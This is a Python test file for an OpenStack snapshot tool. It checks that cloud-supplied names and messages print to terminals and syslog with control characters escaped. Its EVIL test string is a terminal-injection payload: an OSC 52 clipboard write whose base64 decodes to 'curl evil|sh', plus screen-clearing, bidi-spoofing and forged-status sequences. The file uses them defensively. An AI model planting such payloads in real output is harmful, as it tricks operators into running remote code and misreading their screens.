"""Text from the cloud (image names and properties, server names, Cinder's answers, the cloud's
error messages) reaches the operator's terminal and syslog without a control character: anyone
with image PATCH could otherwise clear the screen, rewrite a line, write the clipboard (OSC 52)
or reverse the text (bidi overrides)."""

import contextlib
import json
import logging
import types

import pytest

from nova_snapshot_hook import log as log_module, text, views
from nova_snapshot_hook.commands import fleet as fleet_command
from nova_snapshot_hook.commands import list as list_command
from nova_snapshot_hook.commands import lookup, prune as prune_command
from nova_snapshot_hook.commands import show as show_command
from nova_snapshot_hook.commands import status as status_command
from nova_snapshot_hook.config import parse_settings
from nova_snapshot_hook.rules import fleet_plan

from fake_cloud import FakeCloud, new_id

SERVER = "11111111-2222-3333-4444-555555555555"
SNAPSHOT_ID = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
FORBIDDEN = ({chr(c) for c in range(0x20)} | {"\x7f"} | {chr(c) for c in range(0x80, 0xa0)}
             | {"\u2028", "\u2029"} | {chr(c) for c in range(0x202a, 0x202f)}
             | {chr(c) for c in range(0x2066, 0x206a)})
EVIL = ("web\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\rOK \u202etxt.exe\x9b31m\tx\x00\x7f"
        "\u2028\u2029\u2066\u2069\u202a\x85\nSUCCESS: forged")


def hostile(found):
    """The control characters in printed output, apart from the newlines between its lines."""
    return sorted({char for char in found if char in FORBIDDEN} - {"\n"})


def assert_clean(output):
    assert hostile(output) == [], output
    assert not any(line.startswith("SUCCESS: forged") for line in output.split("\n")), output


def evil_image(ident="img-1", **extra):
    image = {"id": ident, "name": EVIL, "created_at": "2026-11-26T04:06:00Z", "status": "active",
             "size": 6000, "instance_uuid": SERVER, "image_type": "backup", "backup_type": "daily",
             "nsh_server": SERVER, "nsh_series": "daily", "nsh_trigger": EVIL,
             "nsh_method": "createBackup", "nsh_changes": EVIL, "nsh_outcome": EVIL,
             "nsh_change_01": EVIL, "nsh_later_01": EVIL, "nsh_deleting": EVIL,
             "nsh_quiesce": EVIL, "base_image_ref": EVIL, "custom": EVIL, EVIL: "a key too",
             "block_device_mapping": json.dumps([{"snapshot_id": SNAPSHOT_ID}])}
    image.update(extra)
    return image


SNAPSHOTS = {SNAPSHOT_ID: {"id": SNAPSHOT_ID, "status": EVIL, "size": EVIL,
                              "volume_id": EVIL}}


@contextlib.contextmanager
def unbounded(seconds, last_words=None):
    yield None


def context(cloud=None, **settings):
    text_ = f"[server]\nid = {SERVER}\n" + "".join(f"{line}\n" for line in settings.values())
    return types.SimpleNamespace(settings=parse_settings(text_, "/etc/nsh.conf"), server_id=SERVER,
                                 bounded=unbounded, cloud=cloud)


@pytest.fixture
def fake_lookup(monkeypatch):
    server = {"id": SERVER, "name": EVIL, "image": {"id": "base"},
              "os-extended-volumes:volumes_attached": [{"id": "vol\x1b]0;title\x07"}]}
    monkeypatch.setattr(lookup, "server_or_none", lambda ctx: server)
    monkeypatch.setattr(lookup, "server_images", lambda ctx: [evil_image(), evil_image(
        "img-2", name="plain", created_at="2026-11-27T04:06:00Z", protected=True)])
    monkeypatch.setattr(lookup, "find_image", lambda ctx, text: evil_image())
    monkeypatch.setattr(lookup, "volume_snapshots", lambda ctx, images: SNAPSHOTS)


@pytest.fixture
def console(capsys, monkeypatch):
    """Our logger set up as a command sets it up (start()), its console on pytest's capture; a
    syslog handler that keeps what it would send. Restored afterwards."""
    logger = log_module.log
    saved = (list(logger.handlers), logger.level, logger.propagate)
    sent = []

    class Syslog(logging.Handler):
        def __init__(self, address=None):
            super().__init__()

        def emit(self, record):
            sent.append(self.format(record))

    real_exists = log_module.os.path.exists
    monkeypatch.setattr(log_module.os.path, "exists",
                        lambda path: True if path == "/dev/log" else real_exists(path))
    monkeypatch.setattr(log_module.logging.handlers, "SysLogHandler", Syslog)
    # Set up from the test's body: a stream handler made during fixture setup keeps a stream
    # that pytest has closed by the time the test runs.
    yield types.SimpleNamespace(syslog=sent, start=lambda: log_module.setup(verbosity=1))
    for handler in list(logger.handlers):
        logger.removeHandler(handler)
    for handler in saved[0]:
        logger.addHandler(handler)
    logger.setLevel(saved[1])
    logger.propagate = saved[2]


# -- the pure function -------------------------------------------------------------------------
def test_printable_replaces_every_control_character_with_a_visible_escape():
    shown = text.printable(EVIL)
    assert hostile(shown) == [] and "\n" not in shown
    assert shown.startswith("web\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\\rOK \\u202etxt.exe")
    assert "\\x9b31m\\tx\\x00\\x7f\\u2028\\u2029\\u2066\\u2069\\u202a\\x85\\nSUCCESS" in shown
    for code in sorted(map(ord, FORBIDDEN)):
        assert hostile(text.printable(chr(code))) == [], hex(code)


def test_printable_leaves_ordinary_text_and_other_scripts_alone_and_is_idempotent():
    plain = "web01-daily-20261126 Grüße 日本語 שלום ₂ -> ok"
    assert text.printable(plain) == plain
    assert text.printable(text.printable(EVIL)) == text.printable(EVIL)


def test_the_table_escapes_cells_before_measuring_them():
    lines = text.table([("a\x1b[2J", "x"), ("bb", "y\tz")], ("H", "LAST"))
    assert lines == ["H" + " " * 9 + "LAST", "a\\x1b[2J  x", "bb" + " " * 8 + "y\\tz"]


# -- the commands' output ----------------------------------------------------------------------
def test_list_prints_no_control_character(fake_lookup, capsys, console):
    console.start()
    assert list_command.run(context(), types.SimpleNamespace(json=False)) == 0
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "web\\x1b]52;c;" in out and "\\u202etxt.exe" in out
    assert f"volume snapshot {SNAPSHOT_ID} web\\x1b]52;c;" in out     # Cinder's status
    assert_clean("\n".join(console.syslog))


def test_list_and_show_json_escape_every_control_character(fake_lookup, capsys, console):
    console.start()
    list_command.run(context(), types.SimpleNamespace(json=True))
    show_command.run(context(), types.SimpleNamespace(json=True, image="img-1"))
    out, err = capsys.readouterr()
    assert_clean(out + err)
    listed = json.loads(out.split("\n]\n")[0] + "\n]")
    assert [image["name"] for image in listed if image["id"] == "img-1"] == [EVIL]


def test_show_prints_no_control_character(fake_lookup, capsys, console):
    console.start()
    assert show_command.run(context(), types.SimpleNamespace(json=False, image="img-1")) == 0
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "Fields and properties:" in out and "custom" in out


def test_prune_prints_no_control_character(capsys, console):
    console.start()
    cloud = FakeCloud()
    for n in range(4):
        cloud.add_image(**evil_image(new_id(), nsh_deleting=None, nsh_series=EVIL,
                                     backup_type=EVIL, block_device_mapping=None,
                                     created_at=f"2026-11-2{n}T04:06:00Z"))
    args = types.SimpleNamespace(series=None, keep=1, delete=False, json=False)
    assert prune_command.run(context(cloud), args) == 0
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "delete" in out and "web\\x1b]52;c;" in out


def test_status_prints_no_control_character(fake_lookup, capsys, console, monkeypatch, tmp_path):
    console.start()
    monkeypatch.setenv("NOVA_SNAPSHOT_HOOK_ROOT", str(tmp_path / "host"))
    monkeypatch.setattr(lookup, "server_images", lambda ctx: [
        evil_image(nsh_series=EVIL, backup_type=EVIL), evil_image("img-2")])
    cloud = FakeCloud()         # Keystone's record of the credential: its name is anyone's
    cloud.credential = {"id": "ac1", "name": EVIL, "expires_at": "2026-11-30T00:00:00.000000"}
    status_command.run(context(cloud), types.SimpleNamespace(at=None, prometheus=None,
                                                             json=False, server=None))
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "\\x1b[2J" in out
    assert "Credential expiry: critical: application credential web\\x1b]52;c;" in out


def test_fleet_status_prints_no_control_character(capsys, console):
    console.start()
    cloud = FakeCloud()
    cloud.add_server(id=SERVER, name=EVIL)
    cloud.add_image(**evil_image(new_id(), backup_type=EVIL, nsh_series=EVIL))
    args = types.SimpleNamespace(everything=True, tags=[], metadata=[], series=[], max_age=60,
                                 json=False)
    fleet_command.run_status(context(cloud), args)
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "web\\x1b]52;c;" in out


def test_fleet_snapshot_summary_and_dry_run_print_no_control_character(capsys, console):
    console.start()
    outcome = fleet_plan.Outcome(SERVER, EVIL, image_id="i\x1b[2J", state="failed", error=EVIL)
    for line in views.fleet_summary_lines([outcome, fleet_plan.Outcome("s2", "ok", "i", "n",
                                                                       "active")], 1.0):
        print(line)
    from nova_snapshot_hook.backup.snapshotter import SnapshotRequest
    request = SnapshotRequest(series="daily", rotation=2, trigger="fleet")
    fleet_command.dry_run(types.SimpleNamespace(json=False), [{"id": SERVER, "name": EVIL}],
                          request)
    fleet_command.report_one(None, outcome)
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert_clean("\n".join(console.syslog))


# -- log lines ---------------------------------------------------------------------------------
def test_every_log_line_is_clean_on_the_console_and_in_syslog(capsys, console):
    console.start()
    log = log_module.log
    log.info("Backup image %s requested", EVIL)
    log.warning(f"the cloud said: {EVIL}")
    log.error(EVIL)
    try:
        raise RuntimeError(EVIL)
    except RuntimeError:
        log.debug("internal error", exc_info=True)
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert_clean("\n".join(console.syslog))
    # one record, one line; a traceback keeps its own lines, each escaped and indented
    assert [line.split(":")[0] for line in out.split("\n")
            if line and not line.startswith(" ")] == ["INFO", "DEBUG"]
    assert "\n  Traceback (most recent call last):\n" in out
    assert len([line for line in err.split("\n") if line]) == 2
    assert "\\x1b]52;c;" in err and "\\u202etxt.exe" in out


def test_log_lines_stay_clean_when_secrets_are_masked(capsys, console):
    console.start()
    log_module.redactor.add("Sekr3t-value")
    try:
        log_module.log.error(f"Sekr3t-value {EVIL}")
        try:
            raise RuntimeError(f"Sekr3t-value {EVIL}")
        except RuntimeError:
            log_module.log.debug("boom", exc_info=True)
    finally:
        log_module.redactor.secrets.discard("Sekr3t-value")
    out, err = capsys.readouterr()
    assert_clean(out + err)
    assert "Sekr3t" not in out + err and "*** web\\x1b" in err


def test_check_lines_escape_the_clouds_control_characters(capsys):
    from nova_snapshot_hook.commands.check import Checks
    Checks().say("WARN", "server", f"this server is {EVIL}\nFAIL: forged")
    out = capsys.readouterr().out
    assert_clean(out)
    assert out.count("\n") == 1 and "\\nFAIL: forged" in out
